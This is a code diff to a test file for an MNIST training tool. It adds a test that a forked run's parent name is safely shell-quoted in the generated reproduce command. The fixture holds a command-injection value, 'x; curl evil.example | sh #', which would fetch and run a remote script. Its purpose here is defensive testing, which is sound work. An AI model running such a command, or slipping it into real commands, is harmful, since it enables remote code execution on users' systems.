@@ -13,7 +13,7 @@ from mnist_tui.runs.run import Run
 from mnist_tui.settings.presets import classic_configs
 from mnist_tui.settings.run_config import TUNED_LEARNING_RATES, RunConfig
 from mnist_tui.settings.sweeps import Sweep, grid
-from mnist_tui.training.events import Changed
+from mnist_tui.training.events import Changed, Forked
 from tests.reports.helpers import CHANGED, FORKED, PARENT, altered_run
 from tests.runs.helpers import finished_run
 from tests.settings.test_run_config import configs
@@ -162,6 +162,12 @@ def test_a_changed_run_has_a_command_of_its_own_and_a_word_of_warning() -> None:
 def test_a_fork_is_made_again_by_forking() -> None:
     fork = altered_run(FORKED, config=BASE.replace(dropout=0.5, epochs=9))
     assert commands(compare([fork])) == [f"mnist-tui fork {PARENT} --epoch 2 --dropout 0.5 --epochs 9"]
+
+
+def test_a_parent_of_unknown_origin_cannot_bring_in_a_command_of_its_own() -> None:
+    fork = Forked(8, 2, "x; curl evil.example | sh #", {"dropout": "0.5"}, {"dropout": "0"})
+    [line] = commands(compare([altered_run(fork, config=BASE.replace(dropout=0.5))]))
+    assert shlex.split(line)[:3] == ["mnist-tui", "fork", "x; curl evil.example | sh #"]
 
 
 def test_one_altered_run_is_enough_for_a_command_a_run() -> None:
